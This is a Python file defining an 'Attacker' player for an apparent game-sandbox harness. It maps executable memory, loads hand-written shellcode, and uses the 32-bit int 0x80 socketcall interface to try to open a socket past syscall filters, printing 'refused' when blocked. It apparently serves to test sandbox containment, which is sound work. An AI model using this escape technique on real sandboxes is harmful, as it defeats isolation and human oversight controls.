"""Calls the kernel by its 32-bit interface, whose numbers mean other calls."""

import ctypes
import struct

from matchbox.games.bomb import *

# push rbx; mov eax, 102 (socketcall); mov ebx, 1 (socket); mov ecx, edi; int 0x80; pop rbx; ret
CODE = b"\x53\xb8\x66\0\0\0\xbb\x01\0\0\0\x89\xf9\xcd\x80\x5b\xc3"
BELOW_4_GIB = 0x40


def attempt():
    libc = ctypes.CDLL(None)
    libc.mmap.restype = ctypes.c_void_p
    page = libc.mmap(None, 4096, 7, 0x22 | BELOW_4_GIB, -1, 0)
    ctypes.memmove(page, struct.pack("=III", 1, 2, 0), 12)
    ctypes.memmove(page + 64, CODE, len(CODE))
    print("opened", ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p)(page + 64)(page))


class Attacker(Player):
    def name(self):
        return "Attacker"

    def turn(self, game_data, play_a_card):
        try:
            attempt()
        except Exception as error:
            print("refused:", type(error).__name__, error)
        return None

    def defuse(self, game_data):
        return 0
